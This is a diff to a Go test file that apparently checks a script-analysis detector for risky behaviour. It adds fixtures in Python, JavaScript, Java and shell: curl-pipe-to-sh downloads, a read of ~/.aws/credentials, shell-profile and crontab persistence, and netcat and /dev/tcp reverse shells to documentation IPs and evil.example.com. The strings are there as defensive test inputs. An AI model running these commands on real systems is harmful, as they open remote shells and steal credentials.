@@ -42,6 +42,11 @@ func TestExtract(t *testing.T) {
 		{"shell dev tcp", "a.sh", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1\n", []string{"network 203.0.113.9:443"}},
 		{"shell crontab", "a.sh", "(crontab -l; echo '* * * * * /tmp/x') | crontab -\n", []string{"persistence"}},
 		{"shell base64 to bash", "a.sh", "echo ZWNobyBoaQ== | base64 -d | bash\n", []string{"obfuscation"}},
+		{"python shell line", "a.py", "import os\nos.system('curl -s http://203.0.113.4/x | sh')\n", []string{"process", "obfuscation", "network 203.0.113.4"}},
+		{"python bash -c argv", "a.py", "import subprocess\nsubprocess.run(['bash', '-c', 'cat ~/.aws/credentials'])\n", []string{"process", "credentials"}},
+		{"js exec line", "a.js", "require('child_process').exec('echo x >> ~/.zshrc');\n", []string{"process", "persistence"}},
+		{"java exec line", "A.java", "class A { void f() throws Exception { Runtime.getRuntime().exec(new String[]{\"sh\", \"-c\", \"nc 198.51.100.2 9000 -e /bin/sh\"}); } }\n", []string{"process", "network"}},
+		{"shell nc host port", "a.sh", "nc -e /bin/sh evil.example.com 4444\n", []string{"network evil.example.com:4444"}},
 		{"shell plain build", "build.sh", "#!/bin/sh\nset -eu\ngo build -o bin/app ./cmd/app\ncp bin/app dist/\n", nil},
 		{"blob of code", "a.py", "P = '" + b64("import socket,subprocess;s=socket.socket();s.connect(('203.0.113.1',1));subprocess.call(['/bin/sh','-i'])") + "'\n", []string{"obfuscation"}},
 	}
